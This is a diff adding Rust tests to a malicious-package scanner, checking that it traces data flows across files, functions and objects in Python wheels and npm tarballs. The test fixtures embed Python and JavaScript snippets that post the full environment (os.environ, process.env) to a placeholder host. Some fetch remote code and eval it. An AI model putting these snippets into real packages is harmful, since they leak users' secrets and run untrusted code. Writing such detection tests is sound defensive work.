@@ -3,7 +3,7 @@ use std::fs;
 use std::path::{Path, PathBuf};
 
 use sigma_core::{
-    Digests, DistributionKind, DistributionReport, Ecosystem, PackageId, PackageName, Sha1, Sha256, Sha512,
+    Digests, DistributionKind, DistributionReport, Ecosystem, PackageId, PackageName, Reach, Sha1, Sha256, Sha512,
 };
 
 use super::RULES;
@@ -171,5 +171,101 @@ fn variants_of_a_decoded_payload_are_all_seen() {
         let files = vec![(format!("package/{path}"), source.as_bytes().to_vec())];
         let hits = analyse(kind, &files).report.rule_hits;
         assert!(hits.contains_key("decoded-execution"), "{source}{hits:?}");
+    }
+}
+
+fn hits(kind: DistributionKind, files: &[(&str, &str)]) -> BTreeMap<String, u64> {
+    let files: Files = files.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec())).collect();
+    analyse(kind, &files).report.rule_hits
+}
+
+/// A flow whose source, way and end lie in different files is the same flow.
+#[test]
+fn flows_are_followed_from_file_to_file() {
+    let send = "import requests\ndef send(data):\n    requests.post('https://a.example.org', data=data)\n";
+    let collect = "import os\ndef collect():\n    return dict(os.environ)\n";
+    let cases: &[&[(&str, &str)]] = &[
+        &[("p/__init__.py", "from .net import send\nimport os\nsend(os.environ)\n"), ("p/net.py", send)],
+        &[
+            ("p/__init__.py", "from p.net import send\nfrom p.box import collect\nsend(collect())\n"),
+            ("p/net.py", send),
+            ("p/box.py", collect),
+        ],
+        &[
+            (
+                "p/__init__.py",
+                "from . import box\nimport requests\nrequests.post('https://a.example.org', data=box.collect())\n",
+            ),
+            ("p/box.py", collect),
+        ],
+    ];
+    for files in cases {
+        let found = hits(DistributionKind::Wheel, files);
+        assert!(found.contains_key("environment-exfiltration"), "{files:?} {found:?}");
+    }
+    let cases: &[&[(&str, &str)]] = &[
+        &[
+            ("package/index.js", "const { send } = require('./lib/net');\nsend(JSON.stringify(process.env));\n"),
+            (
+                "package/lib/net.js",
+                "exports.send = (d) => fetch('https://a.example.org', { method: 'POST', body: d });\n",
+            ),
+        ],
+        &[
+            ("package/index.mjs", "import send from './net.mjs';\nimport { all } from './box.mjs';\nsend(all());\n"),
+            ("package/net.mjs", "export default function (d) { fetch('https://a.example.org', { body: d }); }\n"),
+            ("package/box.mjs", "export const all = () => process.env;\n"),
+        ],
+    ];
+    for files in cases {
+        let found = hits(DistributionKind::NpmTarball, files);
+        assert!(found.contains_key("environment-exfiltration"), "{files:?} {found:?}");
+    }
+    let harmless: &[(&str, &str)] =
+        &[("p/__init__.py", "from .net import send\nsend('hello')\n"), ("p/net.py", send), ("p/box.py", collect)];
+    assert!(!hits(DistributionKind::Wheel, harmless).contains_key("environment-exfiltration"));
+}
+
+/// What a module runs in another file when it is imported runs at import, not when somebody calls it.
+#[test]
+fn functions_of_other_files_run_when_their_caller_does() {
+    let files: &[(&str, &str)] = &[
+        ("p/__init__.py", "from .net import start\nstart()\n"),
+        (
+            "p/net.py",
+            "import subprocess\ndef start():\n    subprocess.run(['true'])\ndef other():\n    subprocess.run(['false'])\n",
+        ),
+    ];
+    let files: Files = files.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec())).collect();
+    let findings = analyse(DistributionKind::Wheel, &files).report.findings;
+    let mut reach: Vec<(u32, Reach)> =
+        findings.iter().filter(|f| f.rule == "process-spawn").map(|f| (f.line, f.reach)).collect();
+    reach.sort();
+    assert_eq!(reach, [(3, Reach::Import), (5, Reach::Call)]);
+}
+
+/// What a function is given where it is called is known where it is used, also when the call stands further down.
+#[test]
+fn values_are_followed_through_functions_objects_and_variables() {
+    let sources = [
+        "import os, requests\ndef send(d):\n    requests.post('https://a.example.org', json=d)\nsend(dict(os.environ))\n",
+        "import os, requests\nclass A:\n    def __init__(self):\n        self.d = dict(os.environ)\n    def go(self):\n        requests.post('https://a.example.org', json=self.d)\nA().go()\n",
+        "import os, requests\nd = {}\ndef fill():\n    global d\n    d = dict(os.environ)\nfill()\nrequests.post('https://a.example.org', json=d)\n",
+        "import os, requests\nd = []\nd.append(os.environ.copy())\nrequests.post('https://a.example.org', json=d)\n",
+        "import os, requests\nfrom threading import Thread\ndef send(d):\n    requests.post('https://a.example.org', json=d)\nThread(target=send, args=(dict(os.environ),)).start()\n",
+    ];
+    for source in sources {
+        let found = hits(DistributionKind::Wheel, &[("p.py", source)]);
+        assert!(found.contains_key("environment-exfiltration"), "{source} {found:?}");
+    }
+    let sources = [
+        "const https = require('https');\nclass A { constructor() { this.d = process.env; } go() { fetch('https://a.example.org', { body: this.d }); } }\nnew A().go();\n",
+        "const https = require('https');\nlet body = '';\nhttps.get('https://a.example.org/x', (res) => { res.on('data', (d) => { body += d; }); res.on('end', () => eval(body)); });\n",
+        "fetch('https://a.example.org/x').then((r) => r.text()).then((t) => eval(t));\n",
+    ];
+    for source in sources {
+        let found = hits(DistributionKind::NpmTarball, &[("package/a.js", source)]);
+        let flow = found.contains_key("environment-exfiltration") || found.contains_key("download-execution");
+        assert!(flow, "{source} {found:?}");
     }
 }
